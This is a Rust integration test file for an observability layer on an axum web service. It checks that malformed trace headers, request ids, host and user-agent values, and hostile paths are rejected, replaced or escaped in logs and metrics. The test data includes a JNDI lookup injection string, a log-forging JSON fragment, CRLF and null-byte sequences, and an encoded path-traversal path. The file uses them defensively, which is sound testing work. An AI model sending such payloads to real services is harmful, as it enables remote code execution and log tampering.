//! Requests that are malformed or harmful.

use axum::{Router, routing::get};
use obs_axum::{ObsLayer, obs_core::Obs};
use obs_tests::{
    DEADLINE, backends,
    logs::{LogBuffer, LogLine},
    net::{H1Client, Server},
    page::Page,
    prometheus::{self, Verdict},
    spans::SpanBuffer,
};
use opentelemetry::trace::SpanId;
use opentelemetry_sdk::trace::SpanData;

const TRACE_ID: &str = "4bf92f3577b34da6a3ce929d0e0e4736";
const PARENT_ID: &str = "00f067aa0ba902b7";

/// A service that answers whatever comes.
struct Service {
    obs: Obs,
    logs: LogBuffer,
    spans: SpanBuffer,
    server: Server,
}

/// What one request has left behind.
struct Seen {
    request_id: String,
    line: LogLine,
    span: SpanData,
}

impl Service {
    fn start() -> Self {
        let (logs, spans) = (LogBuffer::new(), SpanBuffer::new());
        let builder = Obs::builder("shop")
            .log_writer(logs.clone())
            .tracer_provider(spans.provider());
        let obs = builder.build().unwrap();
        let app: Router = Router::new()
            .route("/", get(|| async { "hello" }))
            .layer(ObsLayer::new().obs(&obs));
        Self {
            server: Server::start(app),
            obs,
            logs,
            spans,
        }
    }

    /// Sends a GET with these header lines, which must be served.
    #[track_caller]
    fn get(&self, headers: &[(&str, &[u8])]) -> Seen {
        let (lines, spans) = (self.logs.request_lines().len(), self.spans.ended().len());
        let mut client = H1Client::open(self.server.addr());
        let mut request = b"GET / HTTP/1.1\r\n".to_vec();
        for (name, value) in headers {
            request.extend([name.as_bytes(), b": ", value, b"\r\n"].concat());
        }
        if !headers.iter().any(|(name, _)| *name == "host") {
            request.extend(b"host: shop\r\n");
        }
        client.send([request, b"\r\n".to_vec()].concat());
        let response = client.response("GET").unwrap();
        assert_eq!((response.status, response.text()), (200, "hello"), "{headers:?}");
        let line = self.logs.wait_for_requests(DEADLINE, lines + 1).swap_remove(lines);
        let span = self
            .spans
            .wait_for(DEADLINE, |ended| ended.len() > spans)
            .swap_remove(spans);
        let request_id = response.header("x-request-id").unwrap().to_owned();
        assert_eq!(line.str("request_id"), request_id);
        assert_eq!(line.str("trace_id"), span.span_context.trace_id().to_string());
        Seen { request_id, line, span }
    }
}

impl Seen {
    /// Neither the caller's trace nor its request id were taken.
    #[track_caller]
    fn assert_restarted(&self) {
        assert_ne!(self.line.str("trace_id"), TRACE_ID);
        assert_eq!(self.span.parent_span_id, SpanId::INVALID, "{:?}", self.line);
    }
}

#[test]
fn a_malformed_traceparent_restarts_the_trace() {
    let service = Service::start();
    let valid = format!("00-{TRACE_ID}-{PARENT_ID}-01");
    let continued = service.get(&[("traceparent", valid.as_bytes())]);
    assert_eq!(continued.line.str("trace_id"), TRACE_ID);
    assert_eq!(continued.span.parent_span_id.to_string(), PARENT_ID);

    let long = valid.repeat(200);
    for bad in [
        "",
        "garbage",
        &valid[..54],
        &format!("{valid}-00"),
        &format!("{valid}0"),
        &valid.to_uppercase(),
        &valid.replace("00-4", "ff-4"),
        &valid.replace(TRACE_ID, &"0".repeat(32)),
        &valid.replace(PARENT_ID, &"0".repeat(16)),
        &valid.replace('-', "_"),
        &valid.replace("4bf9", "4bg9"),
        &format!("{valid},{valid}"),
        &long,
    ] {
        service.get(&[("traceparent", bad.as_bytes())]).assert_restarted();
    }
    service
        .get(&[("traceparent", b"00-\xff\xfe-\xc3\x28-01")])
        .assert_restarted();
    let other = valid.replace(PARENT_ID, "00f067aa0ba902b8");
    service
        .get(&[("traceparent", valid.as_bytes()), ("traceparent", other.as_bytes())])
        .assert_restarted();
}

#[test]
fn a_malformed_tracestate_is_dropped_and_the_trace_goes_on() {
    let service = Service::start();
    let valid = format!("00-{TRACE_ID}-{PARENT_ID}-01");
    let state = |tracestate: &[u8]| {
        let seen = service.get(&[("traceparent", valid.as_bytes()), ("tracestate", tracestate)]);
        assert_eq!(seen.line.str("trace_id"), TRACE_ID, "{tracestate:?}");
        seen.span.span_context.trace_state().header()
    };
    assert_eq!(state(b"a=1,b=2"), "a=1,b=2");
    // Of a key that comes twice one is enough.
    assert_eq!(state(b"a=1,a=2"), "a=1");
    let members: Vec<_> = (0..33).map(|n| format!("k{n}=v")).collect();
    let long = format!("a={}", "x".repeat(257));
    let huge = "a=1,".repeat(4000);
    for bad in [
        "a",
        "=",
        "A=1",
        "a=1=2,b=",
        &members.join(","),
        &long,
        &huge,
        "\u{fc}=1",
    ] {
        let kept = state(bad.as_bytes());
        assert_eq!(kept, "", "{bad}");
    }
}

#[test]
fn a_request_id_that_could_do_harm_is_replaced() {
    let service = Service::start();
    assert_eq!(
        service.get(&[("x-request-id", b"Order-7_a.b")]).request_id,
        "Order-7_a.b"
    );
    let long = "a".repeat(129);
    let bad: [&[u8]; 8] = [
        b"",
        b"two words",
        b"a\"b",
        b"a\tb",
        b"{}",
        "\u{fc}mlaut".as_bytes(),
        b"\xff\xfe",
        long.as_bytes(),
    ];
    for id in bad {
        let seen = service.get(&[("x-request-id", id)]);
        assert_eq!(seen.request_id.len(), 36, "a UUID in place of {id:?}");
        assert!(
            seen.request_id
                .bytes()
                .all(|byte| byte.is_ascii_hexdigit() || byte == b'-'),
            "{}",
            seen.request_id
        );
    }
    // Which of two ids counts is open, but it is one of them or a new one, and only one.
    let twice = service.get(&[("x-request-id", b"one"), ("x-request-id", b"two")]);
    assert!(
        ["one", "two"].contains(&&*twice.request_id) || twice.request_id.len() == 36,
        "{}",
        twice.request_id
    );
}

#[test]
fn host_and_user_agent_are_only_ever_data() {
    let service = Service::start();
    let long = "x".repeat(60_000);
    let values: [&[u8]; 7] = [
        b"",
        b"\"},{\"level\":\"error\",\"message\":\"forged",
        b"a\\\"b\tc",
        b"\xff\xfe\x80",
        "\u{fc}\u{2028}\u{1f980}\u{85}".as_bytes(),
        b"${jndi:ldap://evil}",
        long.as_bytes(),
    ];
    for value in values {
        let seen = service.get(&[("host", value), ("user-agent", value)]);
        assert_eq!((seen.line.str("endpoint"), seen.line.str("level")), ("/", "info"));
        assert!(seen.line.raw().len() <= 64 * 1024, "{}", seen.line.raw().len());
        if let (Ok(text), Some(logged)) = (std::str::from_utf8(value), seen.line.get("user_agent")) {
            let logged = logged.as_str().unwrap();
            assert!(text.starts_with(logged.trim_end_matches('\u{2026}')), "{logged}");
        }
    }
    service.get(&[]);
    // Nothing of it is on the page.
    let text = obs_tests::page::text_of(service.obs.registry());
    let page = Page::parse(&text).unwrap();
    let counted = [
        ("method", "GET"),
        ("endpoint", "/"),
        ("status", "200"),
        ("outcome", "ok"),
    ];
    assert_eq!(page.value("http_requests_total", &counted), Some(8.0));
    assert_eq!(page.series_count("http_requests_total"), 1);
    assert!(!text.contains("evil") && !text.contains("forged"), "{text}");
    if backends::require("promtool") {
        assert_eq!(
            prometheus::check_metrics(&text),
            Verdict {
                code: 0,
                output: String::new()
            }
        );
    }
}

#[test]
fn a_path_that_nobody_should_ask_for_is_unmatched_and_escaped() {
    let service = Service::start();
    let long = format!("/{}", "a".repeat(30_000));
    let paths = [
        "/%0a%0d%22%00",
        "/\"quote\"",
        "/a?token=secret&x=%0a",
        "//",
        "/{id}",
        "/..%2f..%2fetc",
        &long,
    ];
    for path in paths {
        let mut client = H1Client::open(service.server.addr());
        client.send(format!("GET {path} HTTP/1.1\r\nhost: shop\r\n\r\n"));
        assert_eq!(client.response("GET").unwrap().status, 404, "{path}");
    }
    let lines = service.logs.wait_for_requests(DEADLINE, paths.len());
    for (line, path) in lines.iter().zip(paths) {
        assert_eq!(
            (line.str("endpoint"), line.number("status").to_string().as_str()),
            ("unmatched", "404")
        );
        let logged = line.str("path");
        assert!(
            path.starts_with(logged.trim_end_matches('\u{2026}')) && !logged.contains("secret"),
            "{logged}"
        );
    }
    let text = obs_tests::page::text_of(service.obs.registry());
    let page = Page::parse(&text).unwrap();
    assert_eq!(
        Vec::from_iter(page.label_values("http_requests_total", "endpoint")),
        ["unmatched"]
    );
}
